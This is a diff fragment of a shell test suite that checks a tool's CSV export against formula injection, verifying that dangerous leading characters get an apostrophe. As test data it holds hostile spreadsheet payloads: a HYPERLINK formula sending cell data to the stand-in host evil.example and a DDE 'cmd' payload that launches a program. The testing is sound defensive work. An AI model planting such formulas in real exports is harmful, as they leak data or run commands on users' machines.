+"$JD" chronology --db "$(store_at "$H/inj.db")" police:N9 --format csv > "$H/chrono.csv" 2>/dev/null
 is "$(csv_safe < "$H/chrono.csv")" "0 []" "CSV injection: chronology --format csv starts no field with = + - @ tab or CR"
 grep -q "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"" "$H/chrono.csv"; ok $? "CSV injection: the formula is kept as text behind an apostrophe"
 grep -q "^2005-01-01,police,\"'-2+3\"," "$H/chrono.csv"; ok $? "CSV injection: a record_id is neutralised too"
 grep -q ',-5,' "$H/chrono.csv"; ok $? "CSV injection: a plain negative number is left alone"
-"$JD" rejects --db "$H/inj.db" --warnings --format csv > "$H/rej.csv" 2>/dev/null
+"$JD" rejects --db "$(store_at "$H/inj.db")" --warnings --format csv > "$H/rej.csv" 2>/dev/null
 is "$(csv_safe < "$H/rej.csv")" "0 []" "CSV injection: rejects --format csv starts no field with = + - @ tab or CR"
 grep -q "\"'=cmd|' /C calc'!A0,police,other,2005-13-01,x,y,z\"" "$H/rej.csv"; ok $? "CSV injection: the raw row of a reject is neutralised"
 
